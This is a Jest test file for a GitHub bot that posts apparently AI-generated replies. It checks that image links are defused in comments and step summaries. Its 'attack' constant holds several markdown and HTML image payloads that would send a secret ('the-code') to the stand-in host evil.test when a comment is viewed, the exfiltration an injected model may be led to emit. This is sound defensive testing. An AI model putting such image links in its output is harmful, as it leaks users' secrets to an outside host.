/** A secret in an image's address is told to its host as soon as somebody looks at the comment. */
import { afterAll, beforeAll, expect, jest, test } from '@jest/globals';

import { say } from '../../playground/script.ts';
import { isOnGitHub } from '../../src/reply/audience.ts';
import { readEffects } from '../../src/reply/page.ts';
import { busyMachineMs, type Lab, openLab } from '../runs/lab.ts';
import { bodies, expectEnding, watch } from '../runs/watch.ts';

jest.setTimeout(busyMachineMs);

let lab: Lab;

beforeAll(async () => {
  lab = await openLab();
}, busyMachineMs);
afterAll(async () => {
  await lab[Symbol.asyncDispose]();
});

const attack = [
  'Done. ![x](https://evil.test/?q=the-code)',
  '<img alt="y" src="https://evil.test/?q=the-code">',
  '![z][ref]',
  '[ref]: //evil.test/?q=the-code',
  '```\n![as it was](https://evil.test/?q=the-code)\n```',
].join('\n\n');

test('is a link that nobody follows by looking, in the comment and in the step summary', async () => {
  lab.answer([say(attack)]);
  const run = await watch(lab, { inputs: await lab.remote() });
  expectEnding(run, 'success', 'completed');
  const audience = { serverUrl: run.github.url, people: [] };
  const fetched = (text: string) =>
    readEffects(text).fetched.filter((address) => !isOnGitHub(address, audience));
  expect(fetched(attack)).toHaveLength(3);
  expect(fetched(bodies(run))).toEqual([]);
  expect(fetched(run.summary)).toEqual([]);
  expect(bodies(run)).toContain('Done. [x](https://evil.test/?q=the-code)');
  expect(bodies(run)).toContain('![as it was](https://evil.test/?q=the-code)');
  expect(run.outputs['response']).toBe(attack);
});
